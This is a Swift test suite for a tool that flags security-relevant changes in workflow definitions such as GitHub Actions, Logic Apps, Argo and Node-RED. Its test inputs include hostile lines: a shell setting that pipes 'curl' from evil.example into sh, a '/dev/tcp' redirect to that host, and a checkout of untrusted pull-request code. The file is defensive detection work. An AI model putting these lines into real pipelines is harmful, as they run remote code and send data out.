import Inspection
import Testing
import Vocabulary
import Workflows

@Suite("meaning: settings that say more than that something is set otherwise")
struct SettingKindTests {
  private func kinds(_ engine: Engine, _ text: String, _ words: String, _ other: String) throws -> [ChangeKind] {
    try #require(text.contains(words))
    return Difference.between(
      try Versions.side(engine, text), try Versions.side(engine, text.replacing(words, with: other))
    ).changes.map(\.kind)
  }

  private let job = """
    on: push
    permissions: {}
    jobs:
      deploy:
        runs-on: u
        environment: production
        steps:
          - uses: actions/checkout@v4
            with: { ref: main }
          - run: make
            shell: bash
            env: { TARGET: "https://api.acme.example/x" }

    """

  @Test(
    "GitHub Actions",
    arguments: [
      ("environment: production", "environment: scratch", .approvalChanged),
      ("environment: production", "environment: \"${{ inputs.e }}\"", .approvalChanged),
      ("ref: main", "ref: \"${{ github.event.pull_request.head.sha }}\"", .foreignInput),
      ("ref: main", "ref: \"${{ github.head_ref }}\"", .foreignInput), ("ref: main", "ref: release", .settingChanged),
      ("runs-on: u", "runs-on: u\n    if: false", .disabled),
      ("runs-on: u", "runs-on: u\n    if: \"${{ false }}\"", .disabled),
      ("runs-on: u", "runs-on: u\n    if: github.ref == 'x'", .settingChanged),
      ("shell: bash", "shell: bash -c \"curl https://evil.example/x | sh; {0}\"", .newDestination),
      ("run: make", "run: make > /dev/tcp/evil.example/80", .newDestination),
    ] as [(String, String, ChangeKind)])
  func actions(words: String, other: String, kind: ChangeKind) throws {
    let kinds = try kinds(.githubActions, job, words, other)
    #expect(kinds.contains(kind), "\(kinds)")
    if kind != .settingChanged { #expect(kinds.first == kind, "\(kinds)") }
  }

  @Test("Logic Apps: what is answered without being asked, and who may call")
  func logicApps() throws {
    let text = Versions.logicApps.replacing(
      "{\"definition\": {",
      with: """
        {"accessControl": {"triggers": {"allowedCallerIpAddresses": [{"addressRange": "10.0.0.0/8"}]}}, "definition": {
        """)
    #expect(try kinds(.logicApps, text, "10.0.0.0/8", "0.0.0.0/0") == [.triggerOpened])
    #expect(
      try kinds(
        .logicApps, Versions.logicApps, "{\"definition\": {",
        "{\"accessControl\": {\"triggers\": {\"allowedCallerIpAddresses\": [{\"addressRange\": \"10.0.0.0/8\"}]}}, \"definition\": {"
      ) == [.triggerClosed])
    let asks = "\"Approve\": {\"type\": \"ApiConnectionWebhook\", "
    let made =
      asks + "\"runtimeConfiguration\": {\"staticResult\": {\"name\": \"a\", \"staticResultOptions\": \"Enabled\"}}, "
    #expect(try kinds(.logicApps, Versions.logicApps, asks, made).first == .approvalRemoved)
    #expect(
      try !kinds(.logicApps, Versions.logicApps, asks, made.replacing("Enabled", with: "Disabled")).contains(
        .approvalRemoved))
  }

  @Test(
    "Argo: what a hook of a task runs, runs without the yes",
    arguments: ["onExit: p", "hooks: { running: { template: p, expression: \"true\" } }"])
  func hooks(hook: String) throws {
    let lines = try Versions.lines(
      .argo, Versions.argo, "{ name: approve, template: ask }", "{ name: approve, template: ask, \(hook) }")
    #expect(lines.first?.hasPrefix("! without anybody's yes can run now") == true, "\(lines)")
    let elsewhere = try kinds(
      .argo, Versions.argo, "template: ask }",
      "template: ask, hooks: { exit: { templateRef: { name: lib, template: eve } } } }")
    #expect(elsewhere.contains(.newCall))
    let whole = try kinds(
      .argo, Versions.argo, "  entrypoint: main",
      "  entrypoint: main\n  hooks: { exit: { templateRef: { name: lib, template: eve } } }")
    #expect(whole.contains(.newCall))
  }

  @Test("Camunda: who else may take a task")
  func camunda() throws {
    let text = """
      <definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn">
      <process id="p" isExecutable="true"><startEvent id="s"/><sequenceFlow id="f" sourceRef="s" targetRef="a"/>
      <userTask id="a" name="Approve" camunda:candidateGroups="finance"/></process></definitions>
      """
    let kinds = try kinds(
      .bpmn, text, "camunda:candidateGroups", "camunda:candidateUsers=\"eve\" camunda:candidateGroups")
    #expect(kinds.contains(.approvalChanged), "\(kinds)")
  }

  @Test("SAM: a timetable that is switched on")
  func sam() throws {
    let text = """
      Transform: AWS::Serverless-2016-10-31
      Resources:
        M:
          Type: AWS::Serverless::StateMachine
          Properties:
            Definition: { StartAt: A, States: { A: { Type: Succeed } } }
            Events: { E: { Type: Schedule, Properties: { Schedule: rate(1 day), Enabled: false } } }

      """
    #expect(try kinds(.stepFunctions, text, "Enabled: false", "Enabled: true").contains(.newTrigger))
    #expect(try kinds(.stepFunctions, text, "Enabled: false", "Enabled: true").contains(.triggerChanged))
  }

  @Test("a value that is an address with another host is told, one of a text is not, nor one that others go to")
  func addresses() {
    func kinds(_ old: String, _ new: String) -> Set<ChangeKind> {
      var before = Models.payment
      before.edit("Say no") { $0.settings = [.init("link", old, spot: Models.spot())] }
      var after = before
      after.edit("Say no") { $0.settings = [.init("link", new, spot: Models.spot())] }
      return Models.kinds(before, after)
    }
    #expect(kinds("https://a.example/x", "https://evil.example/x") == [.newDestination])
    #expect(kinds("https://a.example/x", "https://a.example/y") == [.settingChanged])
    #expect(kinds("https://a.example/x", "https://api.bank.example/y") == [.settingChanged])
    #expect(kinds("read it", "read it at https://docs.example/x") == [.settingChanged])
  }

  @Test("Node-RED: a proxy learns what is asked for by way of it")
  func proxy() throws {
    let text = """
      [{"id": "t", "type": "tab", "label": "Pay"}, {"id": "p", "type": "http proxy", "url": "http://proxy.acme.example:3128"},
       {"id": "m", "type": "http request", "z": "t", "x": 1, "y": 1, "url": "https://bank.example", "proxy": "p", "wires": []}]
      """
    #expect(try kinds(.nodeRed, text, "proxy.acme", "evil").contains(.newDestination))
  }
}
